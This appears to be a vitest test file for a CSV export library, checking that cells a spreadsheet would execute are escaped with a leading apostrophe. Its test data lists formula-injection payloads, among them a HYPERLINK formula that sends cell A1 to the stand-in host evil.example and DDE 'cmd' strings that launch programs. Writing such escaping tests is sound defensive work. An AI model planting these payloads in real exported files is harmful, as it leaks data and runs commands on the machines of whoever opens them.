import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvTable, predictionsCsv } from '../src/index';

describe('csvTable', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+cmd|x!A1',
    '-2+3+cmd|x!A1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '  =1+1',
    '\r=1+1',
    '\n=1+1',
    '\uff1d1+1',
    '-evil.jpg',
  ])('puts an apostrophe in front of %j, which a spreadsheet would run', (text) => {
    const [[cell]] = parse(csvTable([[text]]), { relax_column_count: true }) as string[][];
    expect(cell).toBe(`'${text}`);
    expect((parse(csvTable([[text]], { formulas: 'keep' })) as string[][])[0][0]).toBe(text);
  });

  it.each(['1.jpg', 'a=b', "it's", '-0.5', '+1e-7', '', 'x@y.z', '5_o_Clock_Shadow'])(
    'leaves %j as it is',
    (text) => {
      expect(parse(csvTable([[text, 'end']]))).toEqual([[text, 'end']]);
    },
  );

  it('writes numbers in full, and NaN as an empty field', () => {
    expect(csvTable([[-0.1, 1 / 3, Number.NaN, 2 ** -1074]])).toBe('-0.1,0.3333333333333333,,5e-324\n');
  });
});

describe('predictionsCsv', () => {
  const input = { ids: ['=1+1'], labels: ['@a'], yTrue: [1], probabilities: [0.5] };

  it('lets neither ids nor labels run', () => {
    expect(predictionsCsv(input)).toBe("id,'@a_true,'@a_predicted,'@a_probability\n'=1+1,1,1,0.5\n");
  });

  it('keeps them on demand', () => {
    expect(predictionsCsv({ ...input, formulas: 'keep' })).toBe(
      'id,@a_true,@a_predicted,@a_probability\n=1+1,1,1,0.5\n',
    );
  });
});
